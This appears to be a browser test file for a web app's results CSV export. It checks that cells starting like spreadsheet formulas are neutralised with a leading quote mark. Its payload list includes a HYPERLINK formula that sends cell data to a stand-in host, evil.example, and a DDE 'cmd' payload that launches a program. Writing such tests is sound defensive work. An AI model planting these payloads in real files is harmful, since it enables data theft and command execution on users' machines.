"""Exports that are safe to open (issue 17.3): a results CSV whose texts, ids, errors and groups
start like spreadsheet formulas (``=HYPERLINK(…)``, ``@SUM(…)``, a caption starting with "- ")
is exported from the batch view and read the way a spreadsheet reads it. openpyxl, like Excel
and LibreOffice, stores a cell whose text starts with ``=`` as a formula; every other OWASP
trigger (``+``, ``-``, ``@``, tab, CR) must not start a cell either, unless it is a number."""

import csv
import json

import openpyxl
import pytest

from app_page import AppPage, tid

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)",
    "+1+1",
    "- a caption that starts with a dash",
    "-2+3",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_number(cell):
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_the_results_csv_has_no_formula_for_a_spreadsheet(browser, app_url, downloads, tmp_path):
    results = tmp_path / "hostile.jsonl"
    lines = []
    for i, text in enumerate(HOSTILE):
        lines.append(json.dumps({
            "id": "@SUM(1+1)" if i == 1 else f"item-{i}",
            "metric": "harmonic_eval", "task": "ic", "text": text,
            "error": None, "group": "+g",
            "criteria": [{"name": "correctness", "score": 4.0 - i / 10, "sigma": 0.5},
                         {"name": "fluency", "error": "=2+5"}],
            "human": {"overall": [-1, 2]},
        }))
    results.write_text("\n".join(lines) + "\n")
    page = AppPage(browser, app_url)
    page.el("tab-batch").click()
    page.wait_for(lambda d: d.find_elements(*tid("results-input")), "the batch view")
    page.d.execute_script("arguments[0].style.display='block'", page.el("results-input"))
    page.el("results-input").send_keys(str(results))
    # Every item lost its fluency criterion, so each counts as failed (partial), not done.
    page.wait_for(lambda d: page.el("batch-progress").get_attribute("data-partial") == str(len(HOSTILE)),
                  "the results to load")
    page.el("export-results-csv").click()
    exported = page.wait_file(downloads, "results.csv")

    with open(exported, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    header, body = rows[0], rows[1:]
    assert len(body) == len(HOSTILE)
    # Read as a spreadsheet would: write every cell as openpyxl takes typed input, read back.
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    path = tmp_path / "results.xlsx"
    book.save(path)
    cells = [c for row in openpyxl.load_workbook(path).active.iter_rows() for c in row]
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert formulas == [], f"cells a spreadsheet runs as formulas: {formulas}"
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS) or is_number(cell), f"{cell!r} starts a formula"
    # The texts are all still there, shown as text behind the quote mark.
    texts = [r[header.index("text")] for r in body]
    assert sorted(texts) == sorted("'" + t for t in HOSTILE)
    assert sorted(r[header.index("id")] for r in body)[0] == "'@SUM(1+1)"
    assert {r[header.index("human_overall")] for r in body} == {"'-1|2"}
    assert {r[header.index("fluency_error")] for r in body} == {"'=2+5"}
    # And the app reads its own export back exactly (the mark is taken off again).
    page = AppPage(browser, app_url)
    page.el("tab-batch").click()
    page.wait_for(lambda d: d.find_elements(*tid("results-input")), "the batch view")
    page.d.execute_script("arguments[0].style.display='block'", page.el("results-input"))
    page.el("results-input").send_keys(str(exported))
    page.wait_for(lambda d: page.el("batch-progress").get_attribute("data-partial") == str(len(HOSTILE)),
                  "the exported results to load")
    assert page.d.find_elements(*tid("result-@SUM(1+1)")), "the id came back without its quote mark"
    assert not page.d.find_elements(*tid("result-'@SUM(1+1)"))
